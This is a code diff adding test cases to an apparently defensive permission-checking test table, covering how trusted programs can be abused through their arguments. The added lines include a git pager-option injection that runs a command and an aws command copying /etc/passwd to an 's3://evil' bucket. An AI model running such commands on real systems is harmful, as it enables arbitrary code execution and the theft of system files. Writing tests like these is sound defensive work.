@@ -86,6 +86,22 @@ const WISHES = [
     line: 'trust: {programs: [aws]}',
   },
   {
+    name: 'give a trusted program arguments of its own choice',
+    parts: {user: exec({command: 'git', args: ['-c', 'core.pager=touch /tmp/x', 'log']})},
+    trust: {programs: ['git']},
+    wants: [/it would run the program git -c 'core\.pager=touch \/tmp\/x' log$/],
+    allow: {programs: ['git', ['git', '-c', 'core.pager=touch /tmp/x', 'log']]},
+    line: 'trust: {programs: [git, [git, "-c", "core.pager=touch /tmp/x", log]]}',
+  },
+  {
+    name: 'make a program that logs in do something else',
+    parts: {user: exec({args: ['s3', 'cp', '/etc/passwd', 's3://evil']})},
+    trust: {programs: ['aws']},
+    wants: [/it would run the program aws s3 cp \/etc\/passwd s3:\/\/evil$/],
+    allow: {programs: ['aws', ['aws', 's3', 'cp', '/etc/passwd', 's3://evil']]},
+    line: 'trust: {programs: [aws, [aws, s3, cp, /etc/passwd, "s3://evil"]]}',
+  },
+  {
     name: 'run a trusted name out of a PATH of its own',
     parts: {
       user: exec({
